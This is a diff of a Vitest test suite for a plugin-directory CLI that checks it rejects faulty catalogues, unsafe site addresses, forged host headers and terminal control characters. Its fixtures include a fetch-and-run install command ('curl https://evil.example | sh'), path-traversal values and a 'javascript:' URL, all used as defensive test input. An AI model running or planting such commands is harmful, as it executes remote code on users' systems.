@@ -1,72 +1,151 @@
-import { execFile, spawn } from 'node:child_process'
+import { spawn } from 'node:child_process'
 import { once } from 'node:events'
-import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
+import { openSync } from 'node:fs'
+import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
+import { request } from 'node:http'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { createInterface } from 'node:readline/promises'
-import { fileURLToPath } from 'node:url'
+import { json, text } from 'node:stream/consumers'
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
+import { embeddedCatalogue } from '../mock/catalogue/embedded.ts'
+import { runnerOf, serving } from '../programs-testing.ts'
+import { toIndexDocument, toRecord } from './catalogue.ts'
 
 vi.setConfig({ testTimeout: 30_000 })
 
-const CLI = fileURLToPath(new URL('cli.ts', import.meta.url))
+const SITE = 'https://directory.example'
+const catalogue = embeddedCatalogue()
+const run = runnerOf('directory/cli.ts')
 
-/** Runs the command to its end. */
-function run(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
-  return new Promise((resolve) => {
-    const child = execFile(process.execPath, [CLI, ...args], (_, stdout, stderr) =>
-      resolve({ code: child.exitCode ?? -1, stdout, stderr }),
-    )
-  })
+let folder: string
+/** Path of a file in the folder of these tests. */
+const at = (name: string) => join(folder, name)
+const write = async (name: string, content: unknown) => {
+  await writeFile(at(name), typeof content === 'string' ? content : JSON.stringify(content))
+  return at(name)
 }
-
-/** Starts the command, passes its first line to `use`, and ends it with SIGTERM. */
-async function serving(args: string[], use: (line: string, url: string) => Promise<void>): Promise<number | null> {
-  const child = spawn(process.execPath, [CLI, 'serve', '--port', '0', ...args], {
-    stdio: ['ignore', 'pipe', 'inherit'],
-  })
-  const exit = once(child, 'exit')
-  try {
-    const { value: line = '' } = await createInterface({ input: child.stdout })[Symbol.asyncIterator]().next()
-    await use(line, /http:\/\/\S+:\d+/.exec(line)?.[0] ?? 'no address')
-  } finally {
-    child.kill('SIGTERM')
+/** Commands that read a catalogue, with the options that they need besides. */
+let readers: Readonly<Record<string, readonly string[]>>
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'plugmark-directory-'))
+  await write('index.json', toIndexDocument(catalogue, SITE))
+  readers = {
+    serve: ['--port', '0'],
+    export: ['--site', SITE, '--out', at('not-written')],
+    worker: ['--out', at('not-written')],
+    index: ['--out', at('not-written'), '--registry', 'http://127.0.0.1:1'],
+    check: ['--site', SITE, '--runs', at('runs'), '--out', at('not-written'), '--only-write'],
   }
-  return (await exit)[0]
+})
+afterAll(() => rm(folder, { recursive: true }))
+
+const serve = (...args: string[]) => ['directory/cli.ts', 'serve', '--port', '0', '--catalogue', ...args] as const
+
+/** Sends a request with headers that fetch does not send. */
+async function ask(url: string, headers: Record<string, string>) {
+  const [response] = await once(request(url, { headers }).end(), 'response')
+  return { status: response.statusCode, json: (await json(response)) as Record<string, unknown> }
 }
 
 describe('plugmark-directory serve', () => {
-  test('prints one line with the address and the success rate, answers, and ends on SIGTERM', async () => {
-    const code = await serving([], async (line, url) => {
-      expect(line).toMatch(
-        /^Plugin directory on http:\/\/127\.0\.0\.1:\d+: \d+ listings, success rate \d+\.\d % of those tested$/,
+  test('has no fault that a request could ask for', async () => {
+    await serving(serve(at('index.json')), async (_, url) => {
+      for (const fault of ['hang', 'oversize', '500', 'redirect-loop']) {
+        const response = await fetch(`${url}/api/v1/index?mock-fault=${fault}`, {
+          redirect: 'manual',
+          signal: AbortSignal.timeout(5_000),
+        })
+        expect([response.status, (await response.json()).count], fault).toEqual([200, catalogue.listings.length])
+      }
+    })
+    expect((await run('serve', '--fault', '500')).stderr).toContain("Unknown option '--fault'")
+  })
+
+  test('takes the site from --site, else from the catalogue, else its own address, and never from a request', async () => {
+    const headers = { host: 'evil.example', 'x-forwarded-proto': 'https', 'x-forwarded-host': 'evil.example' }
+    const siteOf = async (url: string) => (await ask(`${url}/api/v1/index`, headers)).json.site
+    await serving(serve(at('index.json'), '--site', 'https://behind-tls.example/dir/'), async (_, url) => {
+      expect(await siteOf(url)).toBe('https://behind-tls.example/dir')
+    })
+    await serving(serve(at('index.json')), async (_, url) => expect(await siteOf(url)).toBe(SITE))
+    const record = { ...catalogue.listings[0]!.record, url: catalogue.listings[0]!.record.repoUrl }
+    await serving(serve(await write('records.json', [record])), async (_, url) => expect(await siteOf(url)).toBe(url))
+  })
+})
+
+describe('every command that reads a catalogue', () => {
+  /** Rows of an index, and what their last line says. */
+  const good = ['a/b', 'tools', 'dsh plugin --profile web add a-b', null, 'a-b']
+  const indexOf = (...plugins: unknown[]) => ({ ...toIndexDocument(catalogue, SITE), count: plugins.length, plugins })
+
+  test.for(['serve', 'export', 'worker', 'index', 'check'])(
+    '%s names all faults of each row that it leaves out',
+    async (name) => {
+      const file = await write(
+        `faulty-${name}.json`,
+        indexOf(
+          ['a/other', 'tools', 'dsh plugin --profile web add c', null, 'a-b'],
+          ['no slash', 'tools', null, '/plugins/../../escaped', ''],
+          ['A/C', null, 'curl https://evil.example | sh', null, null],
+        ),
       )
-      expect((await fetch(`${url}/api/v1/index`)).status).toBe(200)
-    })
-    expect(code).toBe(0)
+      const { code, stderr } = await run(name, '--catalogue', file, ...readers[name]!)
+      expect(code).toBe(1)
+      expect(stderr).toContain('row 0: install: ')
+      expect(stderr).toMatch(/row 1: fullName: .+; path: .+; npm: /)
+      expect(stderr).toContain('row 2: install: ')
+      expect(stderr).toContain('--allow-empty')
+    },
+  )
+
+  test.for(['export', 'worker', 'check'])(
+    '%s writes nothing when no row is left, unless --allow-empty says so',
+    async (name) => {
+      const file = await write(`empty-${name}.json`, indexOf(['no slash', null, null, null, null]))
+      const out = at(`empty-${name}`)
+      const args = [name, '--catalogue', file, ...readers[name]!.with(readers[name]!.indexOf('--out') + 1, out)]
+      expect((await run(...args)).code).toBe(1)
+      expect(await readdir(folder)).not.toContain(`empty-${name}`)
+      if (name !== 'worker') expect((await run(...args, '--allow-empty')).code).toBe(0)
+    },
+  )
+
+  test('refuses a --site that is not a plain http or https address', async () => {
+    const refused = [
+      ...['directory.example:8443', 'https://user:secret@directory.example', 'dir'].map(
+        (site) => ['serve', site] as const,
+      ),
+      ...Object.keys(readers).map((name) => [name, 'javascript:alert(1)'] as const),
+    ]
+    for (const [name, site] of refused) {
+      const { code, stderr } = await run(name, '--catalogue', at('index.json'), ...readers[name]!, '--site', site)
+      expect([code, stderr], name).toEqual([2, expect.stringContaining('--site takes an http or https address')])
+      expect(stderr).not.toContain('secret')
+    }
   })
 
-  test('shuts down cleanly on Ctrl-C, which npm passes on a second time', async () => {
-    const child = spawn(process.execPath, [CLI, 'serve', '--port', '0'], { stdio: ['ignore', 'pipe', 'inherit'] })
-    await once(child.stdout, 'data')
-    child.kill('SIGINT')
-    child.kill('SIGINT')
-    expect(await once(child, 'exit')).toEqual([0, null])
+  test('keeps control characters of a catalogue and of an option out of the terminal', async () => {
+    const file = await write('escape.json', indexOf(good, ['\u001b[31mred', '\u202e', null, null, null]))
+    const outputs = [
+      await run('worker', '--catalogue', file, '--out', at('\u001b[32mgreen')),
+      await run('worker', '--catalogue', '\u001b[31mno.json', '--out', 'x'),
+      await run('\u001b[31mnone'),
+      await run('serve', '--catalogue', file, '--port', '\u001b[31m'),
+      await run('serve', '--\u001b[31m'),
+    ]
+    for (const { stdout, stderr } of outputs) expect(stdout + stderr).not.toMatch(/[\u001b\u202e]/)
+  })
+})
+
+describe('plugmark-directory', () => {
+  test('lists its commands, and names an unknown one', async () => {
+    expect((await run('--help')).stdout).toContain('verify URL')
+    const { code, stderr } = await run('publish')
+    expect(code).toBe(2)
+    expect(stderr).toContain('There is no command "publish".')
   })
 
-  test('takes its size, quirks and fault from options', async () => {
-    await serving(['--size', '200', '--seed', '4', '--quirks', 'live', '--no-verdicts'], async (line, url) => {
-      expect(line).toContain('200 listings')
-      const { total, results } = await (await fetch(`${url}/api/v1/plugins?installCheck=passed&limit=100`)).json()
-      expect([total, results.length]).toEqual([200, 96])
-      expect(results[0]).not.toHaveProperty('installCheck')
-    })
-    await serving(['--fault', '500'], async (_, url) => {
-      expect((await fetch(`${url}/api/v1/index`)).status).toBe(500)
-    })
-  })
-
-  test('prints its usage with --help', async () => {
+  test('prints the usage of a command with --help', async () => {
     for (const command of ['serve', 'verify', 'export', 'index', 'worker', 'check']) {
       const { code, stdout } = await run(command, '--help')
       expect(code).toBe(0)
@@ -75,111 +154,97 @@ describe('plugmark-directory serve', () => {
   })
 
   test.for([
-    [['--port', 'many'], '--port takes a whole number from 0 to 65535, not "many"'],
-    [['--port', '70000'], '--port takes'],
-    [['--size', '-1'], '--size'],
-    [['--nothing'], "Unknown option '--nothing'"],
-    [['extra'], "Unexpected argument 'extra'"],
-    [['--quirks', 'dead'], '--quirks takes "live"'],
-    [['--fault', 'boom'], 'There is no fault "boom"'],
-    [['--catalogue', 'missing.json'], 'Cannot use missing.json as a catalogue'],
-    [['--catalogue', 'missing.json', '--size', '9'], 'leave it out with --catalogue'],
+    [['serve'], 'Name the catalogue with --catalogue FILE'],
+    [['serve', '--catalogue', 'missing.json'], 'Cannot use missing.json as a catalogue'],
+    [['serve', '--catalogue', 'missing.json', '--port', '70000'], '--port takes'],
+    [['export', '--catalogue', 'missing.json'], '--out FOLDER'],
+    [['serve', '--nothing'], "Unknown option '--nothing'"],
+    [['verify'], 'verify takes the address of a directory'],
   ] as const)('%j is an error that says what to do', async ([args, message]) => {
-    const { code, stdout, stderr } = await run('serve', ...args)
-    expect(code).toBe(2)
-    expect(stdout).toBe('')
+    const { code, stdout, stderr } = await run(...args)
+    expect([code, stdout]).toEqual([2, ''])
     expect(stderr).toContain(message)
     expect(stderr).not.toMatch(/^\s+at /m)
   })
-})
 
-describe('plugmark-directory', () => {
-  let folder: string
-  beforeAll(async () => {
-    folder = await mkdtemp(join(tmpdir(), 'plugmark-directory-'))
-  })
-  afterAll(() => rm(folder, { recursive: true }))
-
-  test('lists its commands, and names an unknown one', async () => {
-    expect((await run('--help')).stdout).toContain('verify URL')
-    const { code, stderr } = await run('publish')
-    expect(code).toBe(2)
-    expect(stderr).toContain('There is no command "publish".')
+  test('says that the disk is full, for its output and for a file that it writes', async () => {
+    const full = openSync('/dev/full', 'w')
+    const cli = join(import.meta.dirname, 'cli.ts')
+    const child = spawn(process.execPath, [cli, '--help'], { stdio: ['ignore', full, 'pipe'] })
+    const [errors, [code]] = await Promise.all([text(child.stderr!), once(child, 'exit')])
+    expect([code, errors]).toEqual([1, expect.stringMatching(/^The output could not be written: .*\n$/)])
+    const checked = await run('check', '--catalogue', at('index.json'), ...readers.check!, '--out', '/dev/full')
+    expect(checked).toMatchObject({ code: 1, stderr: expect.stringMatching(/^The disk is full/) })
   })
 
   test('reports each clause with verify, exits with 0, and writes JSON and JUnit', async () => {
-    await serving([], async (_, url) => {
-      const junit = join(folder, 'report.xml')
-      const { code, stdout, stderr } = await run('verify', url, '--json', '--junit', junit)
+    await serving(serve(at('index.json')), async (_, url) => {
+      const { code, stdout, stderr } = await run('verify', url, '--json', '--junit', at('report.xml'))
       expect(stderr).toMatch(/^Sends at most \d+ requests to http:/)
       expect(code).toBe(0)
       expect(JSON.parse(stdout)).toMatchObject({ url, counts: { violated: 0, quirk: 0 } })
-      expect(await readFile(junit, 'utf8')).toContain('failures="0"')
+      expect(await readFile(at('report.xml'), 'utf8')).toContain('failures="0"')
     })
   })
 
   test('exits with 1 from verify when a clause is violated', async () => {
-    await serving(['--fault', 'html'], async (_, url) => {
+    await serving(['mock/cli.ts', '--port', '0', '--fault', 'html'], async (_, url) => {
       const { code, stdout } = await run('verify', url)
       expect(code).toBe(1)
       expect(stdout).toContain('✗ /api/v1/index: JSON')
     })
   })
 
-  test.for(['ftp://directory.example', 'https://user:secret@directory.example', 'directory', undefined])(
+  test.for(['ftp://directory.example', 'https://user:secret@directory.example', 'directory'])(
     'refuses %s as an address in verify',
     async (address) => {
-      const { code, stderr } = await run('verify', ...(address ? [address] : []))
+      const { code, stderr } = await run('verify', address)
       expect(code).toBe(2)
       expect(stderr).toMatch(/address/)
       expect(stderr).not.toContain('secret')
     },
   )
 
-  test('writes the index, a document for each listing, headers and checksums with export', async () => {
-    await serving([], async (_, url) => {
-      const file = join(folder, 'index.json')
-      const index = await (await fetch(`${url}/api/v1/index`)).json()
-      await writeFile(file, JSON.stringify(index))
-      const out = join(folder, 'static')
-      const site = 'https://static.example/dir/'
-      expect(await run('export', '--catalogue', file, '--site', site, '--out', out)).toMatchObject({ code: 0 })
-      const exported = JSON.parse(await readFile(join(out, 'api/v1/index'), 'utf8'))
-      expect(exported).toEqual({ ...index, site: 'https://static.example/dir' })
-      const sums = await readFile(join(out, 'SHA256SUMS'), 'utf8')
-      expect(sums.match(/listings\/.+\.json$/gm)).toHaveLength(index.count)
-      expect(await readFile(join(out, '_headers'), 'utf8')).toContain('Access-Control-Allow-Origin: *')
-      expect(await run('export', '--catalogue', file, '--site', site, '--out', out)).toMatchObject({
-        code: 2,
-        stderr: expect.stringContaining('is not empty'),
-      })
+  test('writes both endpoints, headers and checksums with export, and nothing into a folder with files', async () => {
+    const records = catalogue.listings.map((listing) => toRecord(listing, SITE))
+    const files = ['--catalogue', at('index.json'), '--catalogue', await write('all.json', { results: records })]
+    const exported = () => run('export', ...files, '--site', 'https://static.example/dir/', '--out', at('static'))
+    expect(await exported()).toMatchObject({ code: 0, stderr: '' })
+    const read = async (name: string) => readFile(at(`static/${name}`), 'utf8')
+    const site = 'https://static.example/dir'
+    const { plugins } = toIndexDocument(catalogue, site)
+    expect(JSON.parse(await read('api/v1/index'))).toMatchObject({ site, count: plugins.length, plugins })
+    expect(JSON.parse(await read('api/v1/plugins'))).toEqual({
+      total: plugins.length,
+      count: plugins.length,
+      results: catalogue.listings.map((listing) => toRecord(listing, site)),
     })
+    expect((await read('SHA256SUMS')).match(/ {2}\S+$/gm)).toEqual(['  _headers', '  api/v1/index', '  api/v1/plugins'])
+    expect((await read('_headers')).match(/Access-Control-Allow-Origin: \*/g)).toHaveLength(2)
+    expect(await exported()).toMatchObject({ code: 2, stderr: expect.stringContaining('is not empty') })
   })
 
   test('exports a market index with its icons, and no file that it did not write', async () => {
-    const market = join(folder, 'market')
     const icon = `icons/${'0'.repeat(16)}.svg`
-    const file = join(market, 'index.json')
-    await mkdir(join(market, 'icons'), { recursive: true })
-    await writeFile(join(market, icon), '<svg/>')
-    await writeFile(join(folder, 'listings.json'), JSON.stringify({ results: [] }))
-    const write = (plugins: unknown) => writeFile(file, JSON.stringify({ format: 1, plugins }))
+    await mkdir(at('market/icons'), { recursive: true })
+    await write(`market/${icon}`, '<svg/>')
     const into = (out: string) =>
       run(
-        ...['export', '--catalogue', join(folder, 'listings.json'), '--site', 'https://static.example'],
-        ...['--market', file, '--out', join(folder, out)],
+        ...['export', '--catalogue', at('index.json'), '--site', 'https://static.example'],
+        ...['--market', at('market/index.json'), '--out', at(out)],
       )
-    await write([{ icon }, {}, { icon }])
+    const writeMarket = (plugins: unknown) => write('market/index.json', { format: 1, plugins })
+    await writeMarket([{ icon }, {}, { icon }])
     expect(await into('good')).toMatchObject({ code: 0 })
-    expect(await readFile(join(folder, 'good/market/index.json'))).toEqual(await readFile(file))
-    expect(await readFile(join(folder, 'good/market', icon), 'utf8')).toBe('<svg/>')
-    expect(await readFile(join(folder, 'good/SHA256SUMS'), 'utf8')).toContain(`  market/${icon}\n`)
-    expect(await readFile(join(folder, 'good/_headers'), 'utf8')).toContain('sandbox')
+    expect(await readFile(at('good/market/index.json'))).toEqual(await readFile(at('market/index.json')))
+    expect(await readFile(at(`good/market/${icon}`), 'utf8')).toBe('<svg/>')
+    expect(await readFile(at('good/SHA256SUMS'), 'utf8')).toContain(`  market/${icon}\n`)
+    expect(await readFile(at('good/_headers'), 'utf8')).toContain('sandbox')
     for (const [plugins, problem] of [
-      [[{ icon: '../listings.json' }], '../listings.json is no icon'],
-      [{}, 'it is no market index of format 1'],
+      [[{ icon: '../index.json' }], '../index.json was not written by this program'],
+      [{}, 'it is not a market index of format 1'],
     ] as const) {
-      await write(plugins)
+      await writeMarket(plugins)
       expect(await into('bad')).toMatchObject({ code: 2, stderr: expect.stringContaining(problem) })
     }
   })
